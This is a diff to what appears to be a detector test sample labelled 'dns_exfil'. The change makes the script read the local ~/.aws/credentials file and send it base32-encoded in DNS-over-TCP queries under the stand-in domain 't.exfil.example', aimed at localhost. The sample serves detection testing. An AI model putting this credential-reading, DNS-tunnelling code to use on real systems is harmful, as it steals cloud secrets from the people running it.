@@ -1,6 +1,6 @@
 # expect: dns_exfil
 # action: alert
-# about: DNS over TCP by write(): length-prefixed queries with 60-char base32 labels, port 53
+# about: reads ~/.aws/credentials, sends it as DNS over TCP by write(): 60-char base32 labels
 import base64
 import contextlib
 import os
@@ -38,7 +38,9 @@ else:
     s.setblocking(False)
     with contextlib.suppress(OSError):
         s.connect(("127.0.0.1", 53))
-data = base64.b32encode(os.urandom(120)).decode().rstrip("=").lower()
+with open(os.path.expanduser("~/.aws/credentials"), "rb") as f:
+    secret = f.read()
+data = base64.b32encode(secret + os.urandom(60)).decode().rstrip("=").lower()
 for i in range(0, len(data), 60):
     q = struct.pack(">HHHHHH", i, 0x0100, 1, 0, 0, 0)
     for part in (data[i:i + 60], "t", "exfil", "example"):
